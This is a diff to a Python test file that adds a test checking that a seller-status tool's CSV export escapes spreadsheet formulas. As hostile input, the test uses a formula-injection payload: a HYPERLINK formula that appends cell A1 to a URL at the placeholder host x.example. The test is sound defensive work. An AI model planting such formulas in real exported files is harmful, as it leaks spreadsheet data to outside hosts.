@@ -4,6 +4,8 @@ the access log never shows a token, a day between gaps is still drawn, a mistype
 from __future__ import annotations
 
 import contextlib
+import csv
+import io
 import logging
 import threading
 import urllib.error
@@ -99,3 +101,15 @@ def test_chart_offers_the_close_id(store):
     assert "did you mean account amazon-us?" in chart("amazon-uss", m.id)
     assert "did you mean amazon.pre_fulfillment_cancel_rate?" in chart("amazon-us", "amazon.pre_fulfilment_cancel_rate")
     assert "did you mean" not in chart("zzz", "q")
+
+
+def test_csv_keeps_formulas_as_text_and_numbers_as_numbers():
+    from sellerguard.status import render_csv_deadlines, render_csv_metrics
+
+    report = hostile_report()
+    report.accounts[0].deadlines[0].ref = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    report.accounts[0].metrics[0].headroom = -53
+    (deadline,) = csv.DictReader(io.StringIO(render_csv_deadlines(report)))
+    assert deadline["ref"] == "'" + report.accounts[0].deadlines[0].ref
+    (metric,) = csv.DictReader(io.StringIO(render_csv_metrics(report)))
+    assert metric["headroom"] == "-53" and metric["comparator"] == "<"
